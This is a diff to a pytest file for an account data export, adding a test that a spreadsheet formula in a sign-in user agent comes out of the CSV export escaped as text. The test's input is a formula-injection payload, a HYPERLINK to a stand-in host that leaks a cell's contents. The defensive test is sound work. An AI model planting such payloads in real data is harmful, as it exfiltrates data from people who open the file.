@@ -1,9 +1,11 @@
 """The access export: files, incidents, schema.json, README.txt, and one section per activity."""
 
 import copy
+import csv
 import hashlib
 import io
 import json
+import re
 import zipfile
 
 import pytest
@@ -158,3 +160,22 @@ def test_every_activity_declaring_personal_fields_has_an_export_section(name, us
         return
     exported = {s.activity for s in services.subject_export(services.subject_resolve(user.email))}
     assert name in exported, f"{name} declares {activity.fields} but no export handler returns it"
+
+
+def test_a_formula_in_a_user_agent_comes_out_of_the_export_csv_as_text(client, user):
+    """The user agent of a sign-in lands in csv/security_log.csv: a spreadsheet must not run it."""
+    agent = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
+    page = client.get("/accounts/login/", HTTP_USER_AGENT=agent).content.decode()
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
+    signed_in = client.post(
+        "/accounts/login/",
+        {"csrfmiddlewaretoken": token, "login": user.email, "password": "correct horse battery"},
+        HTTP_USER_AGENT=agent,
+        HTTP_ORIGIN="http://testserver",
+    )
+    assert signed_in.status_code == 302
+    archive = download(client)
+    assert agent in {row["user_agent"] for row in sections_of(archive)["security_log"]["rows"]}
+    rows = list(csv.DictReader(io.StringIO(archive.read("csv/security_log.csv").decode())))
+    agents = {row["user_agent"] for row in rows}
+    assert "'" + agent in agents and agent not in agents
